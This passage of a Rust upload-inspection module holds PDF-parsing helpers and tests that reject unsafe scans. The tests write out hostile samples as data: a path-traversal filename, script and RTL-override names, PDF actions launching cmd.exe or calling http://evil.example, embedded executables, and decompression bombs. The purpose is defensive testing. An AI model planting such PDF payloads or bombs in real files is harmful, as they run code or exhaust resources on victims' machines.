                        ACTIVE_NAMES.contains(&unescape_names(name).as_slice())
                    } else {
                        ACTIVE_NAMES.contains(&name)
                    };
                    self.active |= active;
                    i = end;
                    continue;
                }
                _ => {}
            }
            if self.depth > MAX_PDF_NESTING || self.kids > MAX_PDF_KIDS {
                return false;
            }
            i += 1;
        }
        true
    }

    /// True when a kid is in two objects' `/Kids` (any of their definitions).
    fn shares_kids(&self) -> bool {
        let mut parent_of = std::collections::HashMap::new();
        self.lists.iter().any(|(parent, kids)| {
            kids.iter().any(|kid| {
                parent_of
                    .insert(*kid, *parent)
                    .is_some_and(|p| p != *parent)
            })
        })
    }
}

/// Where the name that starts at `at` (its `/`) ends.
fn name_end(text: &[u8], at: usize) -> usize {
    at + 1
        + text[at + 1..]
            .iter()
            .position(|c| is_pdf_space(*c) || b"()<>[]{}/%".contains(c))
            .unwrap_or(text.len() - at - 1)
}

/// Whether the name that starts at `at` is `/Kids` as the parser reads it (`/K#69ds` too).
fn is_kids(text: &[u8], at: usize) -> bool {
    let name = &text[at + 1..name_end(text, at)];
    name == b"Kids" || (name.contains(&b'#') && unescape_names(name) == b"Kids")
}

/// The end of the literal string that opens at `at` (balanced parentheses, `\` escapes).
fn skip_string(text: &[u8], at: usize) -> usize {
    let mut open = 0usize;
    let mut i = at;
    while i < text.len() {
        match text[i] {
            b'\\' => i += 1,
            b'(' => open += 1,
            b')' => {
                open -= 1;
                if open == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    i
}

/// The object numbers a `/Kids` array lists (`[3 0 R 4 0 R]`), read from `at` (after the
/// name), and where the array ends; `None` when no array follows.
fn kids_of(text: &[u8], at: usize) -> Option<(Vec<u64>, usize)> {
    let start = at + text.get(at..)?.iter().position(|c| !is_pdf_space(*c))?;
    if text.get(start) != Some(&b'[') {
        return None;
    }
    let end = start + text[start..].iter().position(|c| *c == b']')?;
    // Only a flat list of references is read; anything else in it (nesting, a comment, a
    // string) is not followed here, and the file is refused as unusual.
    if text[start + 1..end]
        .iter()
        .any(|c| matches!(c, b'[' | b'<' | b'(' | b'%'))
    {
        return None;
    }
    let words: Vec<&[u8]> = text[start + 1..end]
        .split(|c| is_pdf_space(*c))
        .filter(|w| !w.is_empty())
        .collect();
    let numbers = words
        .windows(3)
        .filter(|w| w[2] == b"R")
        .filter_map(|w| std::str::from_utf8(w[0]).ok()?.parse().ok())
        .collect();
    Some((numbers, end + 1))
}

/// The dictionary written just before a `stream` keyword that starts at the end of
/// `before`: where it starts, and its text with names' `#xx` escapes decoded (`/Obj#53tm`
/// is `/ObjStm`); `None` when there is none to find within 64 KB.
fn stream_dict(before: &[u8]) -> Option<(usize, Vec<u8>)> {
    // The dictionary right before (blanks between), else before a comment there (a `%`
    // inside the dictionary's own strings is not taken for one first).
    let plain = before.iter().rposition(|c| !is_pdf_space(*c))?;
    dict_ending_at(before, plain).or_else(|| dict_ending_at(before, end_of_syntax(before)?))
}

/// The dictionary whose `>>` ends at `end`.
fn dict_ending_at(before: &[u8], end: usize) -> Option<(usize, Vec<u8>)> {
    if end < 1 || &before[end - 1..=end] != b">>" {
        return None;
    }
    let floor = end.saturating_sub(64 << 10);
    let mut depth = 0usize;
    let mut i = end + 1;
    while i >= floor + 2 {
        match &before[i - 2..i] {
            b">>" => {
                depth += 1;
                i -= 2;
            }
            b"<<" => {
                depth -= 1;
                i -= 2;
                if depth == 0 {
                    return Some((i, unescape_names(&before[i..=end])));
                }
            }
            _ => i -= 1,
        }
    }
    None
}

/// Where the last syntax of `text` ends: blanks and comments after it are skipped, as
/// the parser skips them (`>>%…\nstream`, `>>\0stream`).
fn end_of_syntax(text: &[u8]) -> Option<usize> {
    let mut end = text.len();
    loop {
        let last = text[..end].iter().rposition(|c| !is_pdf_space(*c))?;
        let line_start = text[..=last]
            .iter()
            .rposition(|c| matches!(c, b'\n' | b'\r'))
            .map_or(0, |i| i + 1);
        match text[line_start..=last].iter().position(|c| *c == b'%') {
            // A comment to the end of its line: what is before it.
            Some(p) => end = line_start + p,
            None => return Some(last),
        }
    }
}

/// Whether `before` (what precedes a dictionary) ends with an object header (`12 0 obj`).
/// The object number of the `N G` that ends `before` (what precedes an `obj`).
fn object_number_before(before: &[u8]) -> Option<u64> {
    let trimmed = &before[..before.iter().rposition(|c| !is_pdf_space(*c))? + 1];
    let mut words = trimmed.rsplitn(3, |c| is_pdf_space(*c));
    let _generation = words.next()?;
    std::str::from_utf8(words.next()?).ok()?.parse().ok()
}

/// An object stream's `/First`: where its first object starts, after the head.
fn first_of(dict: &[u8]) -> Option<usize> {
    let at = find(dict, b"/First")? + 6;
    let digits: Vec<u8> = dict[at..]
        .iter()
        .skip_while(|c| c.is_ascii_whitespace())
        .take_while(|c| c.is_ascii_digit())
        .copied()
        .collect();
    std::str::from_utf8(&digits).ok()?.parse().ok()
}

/// Where each object of an unpacked object stream starts (`first` plus its offset) and its
/// number, from the stream's head of number–offset pairs.
fn object_starts(objects: &[u8], first: usize) -> Vec<(usize, u64)> {
    let head = objects.get(..first.min(objects.len())).unwrap_or_default();
    let numbers: Vec<u64> = head
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .map_while(|w| std::str::from_utf8(w).ok()?.parse().ok())
        .collect();
    let mut starts: Vec<(usize, u64)> = numbers
        .chunks_exact(2)
        .filter_map(|pair| Some((first.checked_add(usize::try_from(pair[1]).ok()?)?, pair[0])))
        .collect();
    starts.sort_unstable();
    starts
}

fn after_object_header(before: &[u8]) -> bool {
    let trim = |t: &[u8]| -> usize {
        t.iter()
            .rposition(|c| !is_pdf_space(*c))
            .map_or(0, |i| i + 1)
    };
    let Some(head) = before[..trim(before)].strip_suffix(b"obj") else {
        return false;
    };
    let mut words = head[..trim(head)].rsplitn(3, |c| is_pdf_space(*c));
    let generation = words.next().unwrap_or_default();
    let number = words.next().unwrap_or_default();
    !generation.is_empty()
        && !number.is_empty()
        && generation.iter().all(u8::is_ascii_digit)
        && number.iter().all(u8::is_ascii_digit)
}

/// `text` with every `#xx` (two hex digits) replaced by its byte.
fn unescape_names(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        if text[i] == b'#'
            && let (Some(hi), Some(lo)) = (
                text.get(i + 1).copied().and_then(hex),
                text.get(i + 2).copied().and_then(hex),
            )
        {
            out.push((hi * 16 + lo) as u8);
            i += 3;
        } else {
            out.push(text[i]);
            i += 1;
        }
    }
    out
}

/// How many bytes `data` inflates to (a zlib stream, or raw deflate), counted up to a
/// little past `cap`, kept in `keep` if given. A deflate stream ends by itself, so the rest of the
/// file after it does not matter; a stream broken part-way counts what came before.
fn inflate(data: &[u8], zlib: bool, cap: u64, mut keep: Option<&mut Vec<u8>>) -> u64 {
    use flate2::{Decompress, FlushDecompress, Status};
    let mut inflater = Decompress::new(zlib);
    let mut out = vec![0u8; 64 << 10];
    let mut input = data;
    loop {
        let (read, written) = (inflater.total_in(), inflater.total_out());
        let status = inflater.decompress(input, &mut out, FlushDecompress::None);
        let consumed = usize::try_from(inflater.total_in() - read).unwrap_or(usize::MAX);
        input = input.get(consumed..).unwrap_or_default();
        if let Some(kept) = keep.as_deref_mut() {
            let made = usize::try_from(inflater.total_out() - written).unwrap_or(0);
            kept.extend_from_slice(&out[..made.min(out.len())]);
        }
        match status {
            Ok(Status::StreamEnd) | Err(_) => break,
            Ok(_) if inflater.total_out() == written && consumed == 0 => break,
            Ok(_) if inflater.total_out() > cap => break,
            Ok(_) => {}
        }
    }
    inflater.total_out()
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_name_is_shown_clean_and_ending_as_what_it_is() {
        let jpeg = Some(FileType::Jpeg);
        assert_eq!(
            shown_file_name(Some("../../etc/passwd"), None, "upload"),
            "passwd"
        );
        assert_eq!(
            shown_file_name(Some("C:\\scans\\申请表.jpg"), jpeg, "upload"),
            "申请表.jpg"
        );
        assert_eq!(
            shown_file_name(Some("a\u{0}b\nc.png"), None, "upload"),
            "abc.png"
        );
        assert_eq!(
            shown_file_name(Some("scan\u{202E}gpj.exe"), jpeg, "upload"),
            "scangpj.exe.jpg"
        );
        assert_eq!(
            shown_file_name(
                Some("../../etc/passwd<script>alert(1)</script>\u{202E}gpj.exe"),
                jpeg,
                "upload"
            ),
            "scriptgpj.exe.jpg"
        );
        assert_eq!(
            shown_file_name(Some("IMG_0001.JPEG"), jpeg, "scan"),
            "IMG_0001.JPEG"
        );
        assert_eq!(
            shown_file_name(Some("合同"), Some(FileType::Pdf), "scan"),
            "合同.pdf"
        );
        assert_eq!(
            shown_file_name(Some(" /// "), Some(FileType::Png), "scan"),
            "scan.png"
        );
        assert_eq!(shown_file_name(None, None, "upload"), "upload");
        // As a browser sends `报告"终版".png`.
        assert_eq!(
            shown_file_name(Some("报告%22终版%22.png"), None, "upload"),
            "报告终版.png"
        );
        assert_eq!(
            shown_file_name(Some(".."), Some(FileType::Png), "upload"),
            "upload.png"
        );
        assert_eq!(
            shown_file_name(Some("scan."), Some(FileType::Png), "upload"),
            "scan.png"
        );
    }

    #[test]
    fn types_come_from_content_not_names() {
        assert_eq!(sniff(b"\xFF\xD8\xFF\xE0rest"), Some(FileType::Jpeg));
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\nrest"), Some(FileType::Png));
        assert_eq!(sniff(b"%PDF-1.7"), Some(FileType::Pdf));
        assert_eq!(sniff(b"hello, I am a text file named scan.jpg"), None);
        assert_eq!(sniff(b""), None);
    }

    fn real_png(width: u32, height: u32) -> Vec<u8> {
        let mut out = std::io::Cursor::new(Vec::new());
        image::RgbImage::new(width, height)
            .write_to(&mut out, image::ImageFormat::Png)
            .unwrap_or_default();
        out.into_inner()
    }

    /// An image cut off in sending is refused though its header reads; a whole one, and
    /// one with a camera's own data after its end, are not.
    #[test]
    fn an_image_cut_short_is_unreadable() {
        let png = real_png(400, 300);
        assert_eq!(
            inspect(&png[..100]),
            Err(FileProblem::Unreadable(FileType::Png))
        );
        let mut jpeg = std::io::Cursor::new(Vec::new());
        image::RgbImage::from_pixel(640, 480, image::Rgb([200, 30, 30]))
            .write_to(&mut jpeg, image::ImageFormat::Jpeg)
            .unwrap_or_default();
        let jpeg = jpeg.into_inner();
        assert!(inspect(&jpeg).is_ok());
        assert_eq!(
            inspect(&jpeg[..jpeg.len() - 2]),
            Err(FileProblem::Unreadable(FileType::Jpeg))
        );
        let mut trailer = jpeg.clone();
        trailer.extend_from_slice(b"SEFT camera data after the image");
        assert!(inspect(&trailer).is_ok());
        // A motion photo: a video after the picture's end, with no end marker in it.
        let mut motion = jpeg.clone();
        motion.extend(std::iter::repeat_n(0x11u8, 400 * 1024));
        assert!(inspect(&motion).is_ok());
    }

    /// A picture with a PDF appended is refused, a scripted one or not; bytes that merely
    /// read `%PDF-` are no PDF.
    #[test]
    fn a_picture_carrying_a_pdf_is_refused() {
        let mut jpeg = std::io::Cursor::new(Vec::new());
        image::RgbImage::from_pixel(640, 480, image::Rgb([200, 30, 30]))
            .write_to(&mut jpeg, image::ImageFormat::Jpeg)
            .unwrap_or_default();
        let jpeg = jpeg.into_inner();
        let active = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            &[],
        );
        assert_eq!(inspect(&active), Err(FileProblem::ActivePdf));
        let mut polyglot = jpeg.clone();
        polyglot.extend_from_slice(&active);
        assert_eq!(inspect(&polyglot), Err(FileProblem::CarriesPdf));
        let png = real_png(400, 300);
        let mut polyglot = png.clone();
        polyglot.extend_from_slice(&active);
        assert_eq!(inspect(&polyglot), Err(FileProblem::CarriesPdf));
        let mut inert = jpeg.clone();
        inert.extend_from_slice(&pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[]));
        assert_eq!(inspect(&inert), Err(FileProblem::CarriesPdf));
        let mut chance = jpeg.clone();
        chance.extend_from_slice(b"%PDF-\x11\x22 camera bytes");
        assert!(inspect(&chance).is_ok());
        // Broken (a page tree no parser accepts) or behind a decoy `%PDF-` earlier on: the
        // PDF a lenient viewer opens is still carried.
        let mut headed = jpeg.clone();
        headed.extend_from_slice(
            b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>",
        );
        assert_eq!(inspect(&headed), Err(FileProblem::CarriesPdf));
        let mut broken = jpeg.clone();
        broken.extend_from_slice(b"%PDF-1.7\n1 0 obj << /Kids [3 0 R 3 0 R] /OpenAction << /S /JavaScript /JS (x) >> >> endobj\n");
        assert_eq!(inspect(&broken), Err(FileProblem::CarriesPdf));
        let mut decoy = jpeg.clone();
        decoy.extend_from_slice(b"%PDF- decoy");
        decoy.extend_from_slice(&active);
        assert_eq!(inspect(&decoy), Err(FileProblem::CarriesPdf));
        // Built to make a syntax reading slow: refused in one pass.
        let mut slow = jpeg.clone();
        slow.extend_from_slice(b"%PDF-1.7\n");
        for _ in 0..200_000 {
            slow.extend_from_slice(b">>stream");
        }
        slow.extend_from_slice(b"endobj");
        let started = std::time::Instant::now();
        assert_eq!(inspect(&slow), Err(FileProblem::CarriesPdf));
        assert!(started.elapsed() < std::time::Duration::from_secs(20));
    }

    #[test]
    fn images_must_decode_their_header_within_the_pixel_limit() {
        let png = real_png(400, 300);
        assert_eq!(
            inspect(&png),
            Ok(Inspected {
                kind: FileType::Png,
                pixels: Some((400, 300)),
                pages: None
            })
        );
        // A thumbnail: too small to read, with its size; the shorter side is what counts.
        assert_eq!(
            inspect(&real_png(60, 85)),
            Err(FileProblem::TooFewPixels(60, 85))
        );
        assert_eq!(
            inspect(&real_png(2000, MIN_SIDE - 1)),
            Err(FileProblem::TooFewPixels(2000, MIN_SIDE - 1))
        );
        assert!(inspect(&real_png(MIN_SIDE, MIN_SIDE)).is_ok());
        // Twelve bytes that start like a JPEG, and a PNG signature over garbage.
        assert_eq!(
            inspect(b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01"),
            Err(FileProblem::Unreadable(FileType::Jpeg))
        );
        let mut garbage = b"\x89PNG\r\n\x1a\n".to_vec();
        garbage.extend([7u8; 200]);
        assert_eq!(
            inspect(&garbage),
            Err(FileProblem::Unreadable(FileType::Png))
        );
        // A header that claims 50,000 × 50,000 pixels is refused before anything is decoded.
        let mut bomb = png.clone();
        bomb[16..20].copy_from_slice(&50_000u32.to_be_bytes());
        bomb[20..24].copy_from_slice(&50_000u32.to_be_bytes());
        assert!(matches!(
            inspect(&bomb),
            Err(FileProblem::TooManyPixels(50_000, 50_000)) | Err(FileProblem::Unreadable(_))
        ));
        assert_eq!(inspect(b"hello"), Err(FileProblem::NotAScan));
    }

    /// A small PDF of two pages, objects and cross-reference table written by hand.
    pub(crate) fn two_page_pdf() -> Vec<u8> {
        pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[])
    }

    /// A two-page PDF with `catalog` as its catalog and `more` as objects 5 on.
    fn pdf_of(catalog: &str, more: &[&str]) -> Vec<u8> {
        let mut objects = vec![
            catalog,
            "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ];
        objects.extend_from_slice(more);
        let mut pdf = b"%PDF-1.7\n".to_vec();
        let mut offsets = Vec::new();
        for (i, body) in objects.iter().enumerate() {
            offsets.push(pdf.len());
            pdf.extend(format!("{} 0 obj\n{body}\nendobj\n", i + 1).bytes());
        }
        let xref = pdf.len();
        pdf.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
        for offset in offsets {
            pdf.extend(format!("{offset:010} 00000 n \n").bytes());
        }
        pdf.extend(
            format!(
                "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
                objects.len() + 1
            )
            .bytes(),
        );
        pdf
    }

    /// A PDF that acts when opened — a script, a program launched, a file inside, actions on
    /// events — is no scan, and a reviewer opens it on their machine: refused, the script
    /// found in an object of its own too. Opening at a page, as scanners write, is fine.
    #[test]
    fn a_pdf_that_acts_when_opened_is_refused() {
        for (catalog, more) in [
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                &[][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                &["<< /S /Launch /F (cmd.exe) /P (/c calc) >>"][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>",
                &[
                    "<< /Names [(a.exe) 6 0 R] >>",
                    "<< /Type /Filespec /F (a.exe) >>",
                ][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /AA << /O 5 0 R >> >>",
                &["<< /S /GoTo /D [3 0 R /Fit] >>"][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                &["<< /S /SubmitForm /F (http://evil.example) >>"][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                &["<< /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>"][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                &["<< /S /URI /URI (http://evil.example/) >>"][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://evil.example/) >> >>",
                &[][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >> >>",
                &[][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R >>",
                &["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"][..],
            ),
            // A file attached to a page, its stream not typed as an embedded file (a
            // tester's: `pdfdetach` lists it).
            (
                "<< /Type /Catalog /Pages 2 0 R >>",
                &[
                    "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >> >>",
                    "<< /Length 2 >>",
                ][..],
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R >>",
                &["<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>"][..],
            ),
        ] {
            assert_eq!(
                inspect(&pdf_of(catalog, more)),
                Err(FileProblem::ActivePdf),
                "{catalog} {more:?}"
            );
        }
        let opens_at_a_page = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            &[],
        );
        assert_eq!(inspect(&opens_at_a_page).map(|i| i.pages), Ok(Some(2)));
        // A link clicked, as a document exported from a word processor has.
        let with_a_link = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &[
                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.gsxt.gov.cn/) >> >>",
            ],
        );
        assert_eq!(inspect(&with_a_link).map(|i| i.pages), Ok(Some(2)));
        // Article threads, as some word processors write: no action.
        let with_threads = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /Threads [5 0 R] >>",
            &["<< /Type /Thread /I << /Title (Chapter 1) >> >>"],
        );
        assert_eq!(inspect(&with_threads).map(|i| i.pages), Ok(Some(2)));
    }

    /// An action the parser never reaches — its object's header names another generation
    /// than its table (`5 1 obj` where the table says 0), so the parser drops it while a
    /// viewer rebuilding the table runs it (a tester's) — is refused all the same, its
    /// names written anywhere, escaped or not; words in a string, and a blend mode, are not
    /// actions.
    #[test]
    fn an_action_the_parser_would_not_reach_is_refused_by_its_names() {
        let mismatched = |catalog: &str, action: &str| {
            let pdf = pdf_of(catalog, &[action]);
            let text = String::from_utf8_lossy(&pdf).replace("5 0 obj", "5 1 obj");
            text.into_bytes()
        };
        for (catalog, action) in [
            (
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 1 R >>",
                "<< /S /JavaScript /JS (app.alert(1)) >>",
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>",
            ),
            (
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A#41 << /S /J#61vaScript /J#53 (1) >> >>",
            ),
        ] {
            let pdf = mismatched(catalog, action);
            assert!(
                contains(&pdf, b"5 1 obj"),
                "{}",
                String::from_utf8_lossy(&pdf)
            );
            assert_eq!(inspect(&pdf), Err(FileProblem::ActivePdf), "{action}");
        }
        // In an object stream written plain (no filter), and in one whose dictionary
        // escapes its names (read unescaped, as the parser reads it).
        let objects = b"9 0 << /S /JavaScript /JS (app.alert(1)) >>";
        assert_eq!(
            inspect(&pdf_with_stream(
                &format!(
                    "<< /Type /ObjStm /N 1 /First 4 /Length {} >>",
                    objects.len()
                ),
                objects
            )),
            Err(FileProblem::ActivePdf)
        );
        assert_eq!(
            inspect(&pdf_with_stream(
                "<< /Type /Obj#53tm /N 1 /Fir#73t 4 /Filter /FlateDecode >>",
                &deflated(objects)
            )),
            Err(FileProblem::ActivePdf)
        );
        for harmless in [
            "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (see /JS and /Launch) >>",
            "<< /Type /ExtGState /BM /Screen >>",
        ] {
            let pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[harmless]);
            assert_eq!(inspect(&pdf).map(|i| i.pages), Ok(Some(2)), "{harmless}");
        }
    }

    /// A picture whose pixels are few enough but take more than 160 MB decoded (40 MP of
    /// 16-bit RGBA, 320 MB, from a file of a few hundred kilobytes: a tester's) is refused
    /// by its header, before anything decodes it.
    #[test]
    fn a_picture_too_large_decoded_is_refused_by_its_header() {
        let png = |width: u32, height: u32, depth: u8, colour: u8| {
            let chunk = |kind: &[u8], body: &[u8]| {
                let mut crc = flate2::Crc::new();
                crc.update(kind);
                crc.update(body);
                let mut out = (body.len() as u32).to_be_bytes().to_vec();
                out.extend_from_slice(kind);
                out.extend_from_slice(body);
                out.extend_from_slice(&crc.sum().to_be_bytes());
                out
            };
            let mut header = width.to_be_bytes().to_vec();
            header.extend_from_slice(&height.to_be_bytes());
            header.extend_from_slice(&[depth, colour, 0, 0, 0]);
            let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
            out.extend(chunk(b"IHDR", &header));
            out.extend(chunk(b"IDAT", &deflated(&[0; 64])));
            out.extend(chunk(b"IEND", &[]));
            out
        };
        assert_eq!(
            inspect(&png(6300, 6330, 16, 6)),
            Err(FileProblem::TooDeepPixels(6300, 6330))
        );
        // The same pixels in 8-bit grey are 40 MB decoded: measured, not refused for size.
        assert!(!matches!(
            inspect(&png(6300, 6330, 8, 0)),
            Err(FileProblem::TooManyPixels(..) | FileProblem::TooDeepPixels(..))
        ));
    }

    fn deflated(data: &[u8]) -> Vec<u8> {
        use std::io::Write;
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(data).unwrap_or_else(|e| panic!("{e}"));
        encoder.finish().unwrap_or_else(|e| panic!("{e}"))
    }

    /// A two-page PDF with one more object: `dict` and its stream `data`.
    fn pdf_with_stream(dict: &str, data: &[u8]) -> Vec<u8> {
        let pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &["@@"]);
        let at = pdf
            .windows(2)
            .position(|w| w == b"@@")
            .unwrap_or_else(|| panic!("placeholder"));
        let mut out = pdf[..at].to_vec();
        out.extend(format!("{dict}\nstream\n").bytes());
        out.extend_from_slice(data);
        out.extend(b"\nendstream");
        out.extend_from_slice(&pdf[at + 2..]);
        out
    }

    /// A small file whose object stream unpacks to more than the parser may take in memory
    /// is refused before it is parsed, however its dictionary hides what it is; a picture
    /// that unpacks as much is a picture, never unpacked, and passes.
    #[test]
    fn a_pdf_that_unpacks_to_too_much_is_refused_unparsed() {
        let zeros = vec![0u8; (MAX_PDF_INFLATED + (1 << 20)) as usize];
        let bomb = deflated(&zeros);
        assert!(bomb.len() < 200 << 10, "{} bytes", bomb.len());
        // Packed twice (a bomb inside a bomb: one inflation sees 200 KB), under either
        // spelling of the filter: refused; packed once, a page's few bytes pass.
        let twice = deflated(&bomb);
        for dict in [
            "<< /Filter [/FlateDecode /FlateDecode] >>",
            "<< /Filter [/Fl/Fl] >>",
            "<< /Filter [ /FlateDecode /Fl ] >>",
        ] {
            assert_eq!(
                inspect(&pdf_with_stream(dict, &twice)),
                Err(FileProblem::UnusualPdf),
                "{dict}"
            );
        }
        let page = pdf_with_stream("<< /Filter /FlateDecode >>", &deflated(b"0 0 m 10 10 l S"));
        assert!(pdf_within_bounds(&page));
        // Any other filter on what is not a picture hides its size: run-length under its
        // short name, a picture's filter on an object stream.
        for dict in [
            "<< /Type /ObjStm /N 1 /First 4 /Filter /RL >>",
            "<< /Filter [/DCT] >>",
            "<< /Type /ObjStm /N 1 /First 4 /Filter /CCF >>",
        ] {
            assert_eq!(
                inspect(&pdf_with_stream(dict, b"5 0 << >>")),
                Err(FileProblem::UnusualPdf),
                "{dict}"
            );
        }
        // A cross-reference stream says how many entries it has: never more than its
        // bytes hold (400 bytes had made room for two billion), in a stream or in the
        // classic table.
        let entries = pdf_with_stream(
            "<< /Type /XRef /Size 2000000000 /Index [1 2000000000] /W [0 0 0] >>",
            &[0; 24],
        );
        let started = std::time::Instant::now();
        assert_eq!(
            inspect(&entries),
            Err(FileProblem::Unreadable(FileType::Pdf))
        );
        assert!(started.elapsed() < std::time::Duration::from_secs(1));
        let many = pdf_with_stream(
            "<< /Type /XRef /Size 9000000 /W [1 2 1] /Filter /FlateDecode >>",
            &deflated(&[1; 40]),
        );
        assert!(!pdf_within_bounds(&many));
        let fitting = pdf_with_stream(
            "<< /Type /XRef /Size 10 /W [1 2 1] /Filter /FlateDecode >>",
            &deflated(&[1; 40]),
        );
        assert!(pdf_within_bounds(&fitting));

        // Said as too much inside (not as damaged: a tester's).
        let costly = FileProblem::CostlyPdf;
        for (dict, said) in [
            (
                "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>",
                &costly,
            ),
            // Names escaped, a picture's words, and a string that would mislead a search
            // for the dictionary's start.
            (
                "<< /Type /Obj#53tm /N 1 /First 4 /Note (<<) /Subtype /Image /Filter /Fl#61teDecode >>",
                &costly,
            ),
            // Its type given by reference: no scanner writes that.
            (
                "<< /Type 9 0 R /Subtype /Image /Filter /FlateDecode >>",
                &FileProblem::UnusualPdf,
            ),
        ] {
            let pdf = pdf_with_stream(dict, &bomb);
            let started = std::time::Instant::now();
            assert_eq!(inspect(&pdf).as_ref(), Err(said), "{dict}");
            assert!(started.elapsed() < std::time::Duration::from_secs(5));
            assert_eq!(pdf_pages(&pdf), None);
        }
        // A compressed stream behind a text encoding cannot be measured: refused.
        let hex: String = deflated(b"1 0 ")
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let pdf = pdf_with_stream(
            "<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>",
            hex.as_bytes(),
        );
        // Said as what it is, with a way through (scan again, print to PDF, a photo) —
        // not as damaged; so is a locked file.
        assert_eq!(inspect(&pdf), Err(FileProblem::UnusualPdf));
        let locked = pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            &["<< /Filter /Standard /V 2 /R 3 /P -44 >>"],
        );
        let mut locked = String::from_utf8_lossy(&locked).into_owned();
        locked = locked.replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 5 0 R");
        assert_eq!(inspect(locked.as_bytes()), Err(FileProblem::LockedPdf));
        // A picture of as many bytes: not unpacked by anyone here, taken.
        let picture = pdf_with_stream(
            "<< /Type /XObject /Subtype /Image /Width 4000 /Height 3000 /ColorSpace /DeviceRGB \
             /BitsPerComponent 8 /DecodeParms << /Predictor 15 /Columns 4000 >> /Filter /FlateDecode >>",
            &bomb,
        );
        assert!(pdf_within_bounds(&picture));
        // Small compressed streams of a scan's own: taken.
        let small = pdf_with_stream("<< /Filter /FlateDecode >>", &deflated(&[b'q'; 4096]));
        assert!(pdf_within_bounds(&small));
        assert_eq!(pdf_pages(&small), Some(2));
    }

    /// Syntax the parser would read by recursion too deep for its stack, or a page tree it
    /// would walk for minutes: refused before it is parsed, in an object or inside an
    /// object stream; a scan's own shallow syntax and page tree pass.
    #[test]
    fn a_pdf_nested_too_deep_or_with_a_page_tree_too_big_is_refused_unparsed() {
        let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
        let pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[&deep]);
        assert_eq!(inspect(&pdf), Err(FileProblem::Unreadable(FileType::Pdf)));
        let deep_dicts = format!("{}{}", "<< /A ".repeat(3000), ">>".repeat(3000));
        let pdf = pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[&deep_dicts]);
        assert_eq!(pdf_pages(&pdf), None);
        // Inside an object stream.
        let inner = format!("5 0 {}{}", "[".repeat(5000), "]".repeat(5000));
        let pdf = pdf_with_stream(
            "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>",
            &deflated(inner.as_bytes()),
        );
        assert!(!pdf_within_bounds(&pdf));
        // Brackets in a string or a comment are not nesting.
        let quoted = format!("<< /Note ({}) >>\n% {}", "[".repeat(500), "<<".repeat(500));
        assert_eq!(
